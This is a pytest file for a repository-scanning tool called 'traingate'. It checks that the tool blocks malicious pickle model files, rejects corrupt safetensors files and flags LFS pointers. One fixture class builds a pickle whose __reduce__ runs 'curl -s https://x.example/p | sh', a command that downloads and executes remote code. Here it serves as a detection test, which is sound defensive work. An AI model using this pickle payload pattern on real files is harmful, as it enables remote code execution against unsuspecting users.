"""The artifacts check in a real repo: malicious pickles block, safe formats pass."""

from __future__ import annotations

import collections
import json
import os
import pickle
import struct

import pytest

from traingate.cli import main

from .conftest import POLICY, Repo


class _Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("curl -s https://x.example/p | sh",))


def safetensors(n: int = 4) -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [n], "data_offsets": [0, 4 * n]}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\0" * (4 * n)


@pytest.fixture
def arepo(repo: Repo) -> Repo:
    repo.write(".traingate.yaml", POLICY + "checks:\n  semgrep: {enabled: false}\n")
    repo.write("README.md", "r\n")
    repo.commit("base")
    repo.branch("feature")
    return repo


def findings(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> tuple[int, list[tuple[str, str, str]]]:
    code = main(
        [
            "check",
            "--repo",
            str(repo.path),
            "--base",
            "main",
            "--head",
            "feature",
            "--format",
            "json",
        ]
    )
    doc = json.loads(capsys.readouterr().out)
    return code, [
        (f["rule_id"], f["path"], f["outcome"])
        for f in doc["findings"]
        if f["check"] == "artifacts"
    ]


def test_malicious_pickle_blocks_and_names_the_global(
    arepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    arepo.write(
        "models/best.pt",
        pickle.dumps({"state": collections.OrderedDict(), "x": _Payload()}, protocol=4),
    )
    arepo.write("models/ok.safetensors", safetensors())
    arepo.write(
        "models/plain.pkl", pickle.dumps(collections.OrderedDict(a=[1, 2.0, "x"]), protocol=2)
    )
    arepo.commit("weights", who="mallory")
    code, got = findings(arepo, capsys)
    assert code == 1
    assert got == [("artifact-pickle-global", "models/best.pt", "block")]
    main(["check", "--repo", str(arepo.path), "--base", "main", "--head", "feature"])
    assert "system" in capsys.readouterr().out


def test_lfs_pointer_follows_the_policy(arepo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    arepo.write(
        "models/big.bin",
        "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 123\n",
    )
    arepo.commit("lfs", who="mallory")
    assert findings(arepo, capsys)[1] == [
        ("artifact-lfs-pointer", "models/big.bin", "require_approval")
    ]


def test_corrupt_safetensors_blocks(arepo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    arepo.write("models/bad.safetensors", safetensors()[:-8])
    arepo.commit("bad", who="mallory")
    assert findings(arepo, capsys)[1] == [
        ("artifact-safetensors-invalid", "models/bad.safetensors", "block")
    ]
